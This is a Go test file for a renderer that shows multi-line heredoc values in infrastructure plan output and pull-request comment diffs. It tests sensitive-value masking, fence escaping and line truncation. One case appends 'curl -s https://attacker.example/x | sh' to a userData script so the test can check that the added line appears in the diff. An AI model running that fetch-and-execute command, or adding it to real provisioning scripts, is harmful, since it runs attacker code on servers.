package render

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/kyku/action/internal/plan"
)

const pem = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUFake\nQ2VydGlmaWNhdGUgYm9keQ==\n-----END CERTIFICATE-----\n"

// TestHeredocLines: what a string of several lines shows as, in the plan
// text (propLines) and the comment's diff (diffLines).
func TestHeredocLines(t *testing.T) {
	script := "#!/bin/sh\n" + strings.Repeat("echo provisioning step ok\n", 3)
	tests := []struct {
		name       string
		a          plan.Action
		pc         plan.PropChange
		text, diff string
	}{
		{
			name: "create", a: plan.Create, pc: plan.PropChange{Path: "cert", New: pem},
			text: "cert: <<-EOT\n    -----BEGIN CERTIFICATE-----\n    MIIBszCCAVmgAwIBAgIUFake\n    Q2VydGlmaWNhdGUgYm9keQ==\n    -----END CERTIFICATE-----\nEOT",
			diff: "+ cert: <<-EOT\n+     -----BEGIN CERTIFICATE-----\n+     MIIBszCCAVmgAwIBAgIUFake\n+     Q2VydGlmaWNhdGUgYm9keQ==\n+     -----END CERTIFICATE-----\n+ EOT\n",
		},
		{
			name: "destroy", a: plan.Destroy, pc: plan.PropChange{Path: "cert", Old: "a\nb"},
			text: "cert: <<-EOT\n    a\n    b\nEOT",
			diff: "- cert: <<-EOT\n-     a\n-     b\n- EOT\n",
		},
		{
			name: "line appended", a: plan.Update,
			pc:   plan.PropChange{Path: "userData", Old: script, New: script + "curl -s https://attacker.example/x | sh\n"},
			text: "userData: <<-EOT\n    #!/bin/sh\n    echo provisioning step ok\n    echo provisioning step ok\n    echo provisioning step ok\n  + curl -s https://attacker.example/x | sh\nEOT",
			diff: "  userData: <<-EOT\n      #!/bin/sh\n      echo provisioning step ok\n      echo provisioning step ok\n      echo provisioning step ok\n+     curl -s https://attacker.example/x | sh\n  EOT\n",
		},
		{
			name: "line changed, forcing a replace", a: plan.Replace,
			pc:   plan.PropChange{Path: "userData", Old: "a\nb\nc", New: "a\nB\nc", ForcesReplace: true},
			text: "userData: <<-EOT  # forces replacement\n    a\n  - b\n  + B\n    c\nEOT",
			diff: "  userData: <<-EOT  # forces replacement\n      a\n-     b\n+     B\n      c\n  EOT\n",
		},
		{
			name: "from one line", a: plan.Update, pc: plan.PropChange{Path: "note", Old: "a", New: "a\nb"},
			text: "note: <<-EOT\n    a\n  + b\nEOT",
			diff: "  note: <<-EOT\n      a\n+     b\n  EOT\n",
		},
		{
			name: "from null", a: plan.Update, pc: plan.PropChange{Path: "note", New: "a\nb"},
			text: "note: <<-EOT\n  + a\n  + b\nEOT",
			diff: "  note: <<-EOT\n+     a\n+     b\n  EOT\n",
		},
		{
			name: "whitespace only", a: plan.Update, pc: plan.PropChange{Path: "note", Old: "a\nb\n", New: "a\nb"},
			text: "note: <<-EOT  # whitespace changes\n    a\n    b\nEOT",
			diff: "  note: <<-EOT  # whitespace changes\n      a\n      b\n  EOT\n",
		},
		{
			name: "sensitive stays masked", a: plan.Update, pc: plan.PropChange{Path: "key", Old: pem, New: pem + "x\n", Sensitive: true},
			text: "key: (sensitive) → (sensitive)",
			diff: "- key: (sensitive)\n+ key: (sensitive)\n",
		},
		{
			name: "one line stays on its line", a: plan.Update, pc: plan.PropChange{Path: "image", Old: "debian-11", New: "debian-12"},
			text: "image: debian-11 → debian-12",
			diff: "- image: debian-11\n+ image: debian-12\n",
		},
		{
			name: "a fence in a line", a: plan.Create, pc: plan.PropChange{Path: "doc", New: "```\n</details>\x1b[2J"},
			text: "doc: <<-EOT\n    ```\n    </details>\\x1b[2J\nEOT",
			diff: "+ doc: <<-EOT\n+     ```\n+     </details>\\x1b[2J\n+ EOT\n",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.text, strings.Join(propLines(tt.a, tt.pc, nil), "\n")); diff != "" {
				t.Errorf("text (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.diff, diffLines(tt.a, tt.pc, nil)); diff != "" {
				t.Errorf("comment (-want +got):\n%s", diff)
			}
		})
	}
}

// TestHeredocInTheComment: in a whole comment, no line of a heredoc can
// close the diff's fence, each is cut to maxCell runes, and a secret of
// several lines never shows.
func TestHeredocInTheComment(t *testing.T) {
	long := strings.Repeat("y", 2*maxCell)
	p := newPlan("prod",
		change(plan.Create, "tls_cert", "c", 0, plan.PropChange{Path: "doc", New: "```\n" + long + "\n   ```"}),
		change(plan.Create, "tls_key", "k", 0, plan.PropChange{Path: "private_key_pem", New: pem, Sensitive: true}))
	body := PlanComment(p, Meta{}, CommentLimit)
	fences := 0
	for _, l := range strings.Split(body, "\n") {
		if strings.HasPrefix(strings.TrimLeft(l, " "), "```") && len(l)-len(strings.TrimLeft(l, " ")) < 4 {
			fences++
		}
		if n := utf8.RuneCountInString(l); n > maxCell+10 {
			t.Errorf("a line of %d runes: %.40q…", n, l)
		}
	}
	if fences != 2 { // the diff's, opening and closing
		t.Errorf("%d fence lines, want 2:\n%s", fences, body)
	}
	if strings.Contains(body, "MIIB") || !strings.Contains(body, "+   private_key_pem: (sensitive)\n") {
		t.Errorf("the sensitive key:\n%s", body)
	}
}

// TestLineDiffLarge: past maxDiffCells the old lines are all removed and
// the new ones added, in order, without building the table.
func TestLineDiffLarge(t *testing.T) {
	n := 1100
	old, new := make([]string, n), make([]string, n)
	for i := range n {
		old[i], new[i] = "same", "same"
	}
	got := lineDiff(unmarked(old), unmarked(new))
	if len(got) != 2*n || got[0].mark != '-' || got[n].mark != '+' {
		t.Errorf("%d lines, first %q, middle %q", len(got), got[0].mark, got[n].mark)
	}
	if small := lineDiff(unmarked([]string{"a", "b"}), unmarked([]string{"a", "c"})); !cmp.Equal(small, []hereLine{{mark: ' ', text: "a"}, {mark: '-', text: "b"}, {mark: '+', text: "c"}}, cmp.AllowUnexported(hereLine{})) {
		t.Errorf("small diff %v", small)
	}
}
